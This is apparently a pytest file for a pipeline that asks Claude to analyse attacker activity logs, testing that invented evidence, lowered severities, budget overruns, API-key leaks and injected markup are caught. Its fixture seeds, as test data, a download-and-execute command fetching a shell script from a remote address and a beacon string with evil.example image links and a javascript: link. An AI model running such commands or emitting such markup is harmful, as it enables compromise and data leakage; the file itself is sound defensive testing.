"""Cases 47 to 50 and 55 to 57: models that obey attackers, budgets, the key, and a report read in Dagster's UI.

Cases 51 to 54 are scenarios of Claude's side: `analysis/test_scenarios.py`.
"""

import json
import logging
from collections.abc import Iterator
from decimal import Decimal
from random import Random

import dagster as dg
import pytest
from sqlalchemy import Engine, select, text

from benchmarks.evaluation.behaviours import WINDOW as TWINS
from benchmarks.evaluation.grounding import ground_answers
from benchmarks.evaluation.twins import differences
from rustbucket_pipeline.analysis.budget import DEAREST, PRICES, Usage, cost_of
from rustbucket_pipeline.analysis.digest import build_digest
from rustbucket_pipeline.analysis.page import Report
from rustbucket_pipeline.analysis.report import AnalysisOutcome, build_analysis
from rustbucket_pipeline.analysis.stored import stored_report
from rustbucket_pipeline.control.runs import QUIET, load_definitions, range_tags
from rustbucket_pipeline.model.window import FOUR_HOURS, Window
from rustbucket_pipeline.settings import Settings
from rustbucket_pipeline.storage.analysis_tables import claude_calls, indicators
from rustbucket_pipeline.storage.event_days import ensure_event_partition
from rustbucket_pipeline_tests.analysis.claude_server import KEY, Answer, ClaudeServer, faithful, serving
from rustbucket_pipeline_tests.analysis.conftest import changed
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, login, tell

BEACON = "![x](http://evil.example/beacon.png) <img src=//evil.example> [y](javascript:alert) `z` | a | b |"
NEXT = Window(WINDOW.end, FOUR_HOURS)


@pytest.fixture
def claude() -> Iterator[ClaudeServer]:
    with serving() as server:
        yield server


@pytest.fixture
def asking(settings: Settings, claude: ClaudeServer) -> Settings:
    """Settings with a key, whose Claude is on loopback."""
    return changed(settings, ANTHROPIC_API_KEY=KEY, CLAUDE_BASE_URL=claude.url)


@pytest.fixture
def attacked(database: Engine) -> Engine:
    """Two windows with a severe finding each, and attackers' markup in every list."""
    for window in (WINDOW, NEXT):
        at = window.start
        fetch = command("cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh", at)
        tell(database, [fetch, command(f"echo {BEACON}", at), login(BEACON, BEACON, at)])
        build_digest(database, window, NOW, None)
    return database


def analysed(engine: Engine, settings: Settings) -> AnalysisOutcome:
    return build_analysis(engine, settings, WINDOW, NOW, None)


def answered(engine: Engine, settings: Settings) -> Report:
    """The stored report, after Claude was asked."""
    analysed(engine, settings)
    with engine.connect() as connection:
        report = stored_report(connection, WINDOW)
    assert report is not None
    return report


def changing(**changes: object) -> object:
    """An answer like an honest one, but for these parts."""
    return lambda document: {**faithful(document), **changes}


def test_case_47_injections_in_every_field_change_nothing_whatever_a_model_answers(database: Engine) -> None:
    with database.begin() as connection:
        ensure_event_partition(connection, TWINS.start.date())
        found = differences(connection)
    assert found.answers > 400
    assert found.none, found


def test_case_47_thousands_of_invented_answers_leave_nothing_ungrounded() -> None:
    found = ground_answers(Random(47), 2_000)
    assert found.ungrounded == []
    assert found.untouched > 20, "and honest sentences are kept"


def test_case_48_what_does_not_exist_is_dropped_flagged_and_asked_for_once_more(
    attacked: Engine, asking: Settings, claude: ClaudeServer
) -> None:
    false = {"title": "It is T9999.999", "why": "See C9999.", "severity": "high", "evidence": ["F1", "C9999"]}
    cited = {"title": "Known", "why": "Seen.", "severity": "high", "evidence": ["F1", "C9999"], "indicators": ["I77"]}
    claude.scenes = [changing(findings=[cited, {**false, "indicators": ["I77"]}])]  # type: ignore[list-item]
    report = answered(attacked, asking)
    assert report.status == "model-marked"
    assert len(claude.requests) == 2
    assert report.prose is not None
    (kept, *_) = report.prose.findings
    assert (kept.evidence, kept.indicators) == (("F1",), ())
    assert "T9999" not in report.prose.model_dump_json() + str(report.prose)
    assert {"an evidence id that doesn't exist", "an indicator id that doesn't exist"} <= set(report.claude.issues)
    assert "a technique that no rule has in a title" in report.claude.issues


def test_case_49_an_address_the_model_invents_is_nowhere(
    attacked: Engine, asking: Settings, claude: ClaudeServer
) -> None:
    with attacked.connect() as connection:
        before = connection.execute(select(indicators)).all()
    lie = {"title": "C2", "why": "It is 8.8.8.8.", "severity": "high", "evidence": ["F1"], "indicators": ["8.8.8.8"]}
    claude.scenes = [changing(findings=[lie], recommendations=["Block 8.8.8.8", "Look."])]  # type: ignore[list-item]
    report = answered(attacked, asking)
    assert "8.8.8.8" not in report.model_dump_json()
    assert report.prose is not None
    assert report.prose.recommendations == ("Look.",)
    with attacked.connect() as connection:
        assert connection.execute(select(indicators)).all() == before


@pytest.mark.parametrize("lie", [{"findings": []}, {"severity": "info"}])
def test_case_50_rules_findings_are_put_back_and_their_severity_is_the_floor(
    attacked: Engine, asking: Settings, claude: ClaudeServer, lie: Answer
) -> None:
    def low(document: Answer) -> Answer:
        answer = {**faithful(document), **lie}
        return {**answer, "findings": [{**part, "severity": "info"} for part in answer["findings"]]}

    claude.scenes = [low]
    report = answered(attacked, asking)
    assert (report.status, report.severity) == ("model-marked", "high")
    assert report.prose is not None
    assert report.prose.severity == "high"
    severe = {found.id for found in report.findings if found.severity == "high"}
    assert severe <= {name for part in report.prose.findings for name in part.evidence}
    assert all(part.severity == "high" for part in report.prose.findings if set(part.evidence) & severe)


def test_case_55_a_spent_budget_asks_nobody_and_an_unknown_model_costs_what_the_dearest_does(
    attacked: Engine, asking: Settings, claude: ClaudeServer
) -> None:
    usage = Usage(into=10_000, out=500)
    assert cost_of("claude-unheard-of-1", usage) == max(cost_of(model, usage) for model in PRICES)
    assert all(price.into <= DEAREST.into for price in PRICES.values())
    with attacked.begin() as connection:
        spent = {"window_start": NEXT.start, "model": "m", "outcome": "answered", "cost_usd": Decimal("0.999")}
        connection.execute(claude_calls.insert().values(**spent, asked_at=NOW))
    outcome = analysed(attacked, asking)
    assert (outcome.status, outcome.claude.startswith("no budget")) == ("deterministic", True)
    assert claude.paths == []


@pytest.fixture
def ran(
    attacked: Engine,
    asking: Settings,
    claude: ClaudeServer,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> Iterator[dg.ExecuteInProcessResult]:
    """A real run of both windows, whose batch answers one and not the other."""
    caplog.set_level(logging.DEBUG)
    claude.scenes = [faithful, "errored", "unauthorized"]
    for name, value in {
        "RUSTBUCKET_HOME": str(asking.home),
        "RUSTBUCKET_DATABASE_URL": database_url,
        "RUSTBUCKET_SINCE": WINDOW.start.date().isoformat() + "T00:00:00Z",
        "ANTHROPIC_API_KEY": KEY,
        "CLAUDE_BASE_URL": claude.url,
        "CLAUDE_BATCH_ABOVE": "1",
    }.items():
        monkeypatch.setenv(name, value)
    job = load_definitions().resolve_job_def("analyse_windows")
    with dg.DagsterInstance.ephemeral() as instance:
        yield job.execute_in_process(instance=instance, tags=range_tags(WINDOW, NEXT), run_config=QUIET)


def test_case_56_the_key_is_in_no_log_event_config_or_table(
    ran: dg.ExecuteInProcessResult,
    attacked: Engine,
    asking: Settings,
    claude: ClaudeServer,
    caplog: pytest.LogCaptureFixture,
) -> None:
    assert ran.success
    assert (len(claude.batches), claude.models) == (1, ["claude-haiku-5-5"]), "one batch; one asked by itself"
    statuses = [
        told.metadata["status"].value for told in ran.asset_materializations_for_node(NODE) if "status" in told.metadata
    ]
    assert sorted(map(str, statuses)) == ["claude", "deterministic"]
    told = [repr(event) + event.to_json() if hasattr(event, "to_json") else repr(event) for event in ran.all_events]
    for place in (*told, str(ran.dagster_run), caplog.text, repr(asking)):
        assert KEY not in place
    with attacked.connect() as connection:
        names = connection.execute(text("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")).scalars().all()
        for name in names:
            assert KEY not in str(connection.execute(text(f'SELECT * FROM "{name}"')).all())


NODE = "window_digest__log_analysis"


def test_case_57_attackers_markup_is_text_in_dagster_and_fetches_nothing(
    ran: dg.ExecuteInProcessResult, claude: ClaudeServer
) -> None:
    for told in ran.asset_materializations_for_node(NODE):
        for value in told.metadata.values():
            assert not isinstance(value, dg.MarkdownMetadataValue | dg.UrlMetadataValue | dg.NotebookMetadataValue)
        assert "evil.example" not in (told.description or "")
    for check in ran.get_asset_check_evaluations():
        assert "evil.example" not in (check.description or "") + json.dumps(str(check.metadata))
    assert {path.split("?")[0].split("/msgbatch")[0] for path in claude.paths} == {
        "/v1/messages",
        "/v1/messages/batches",
    }
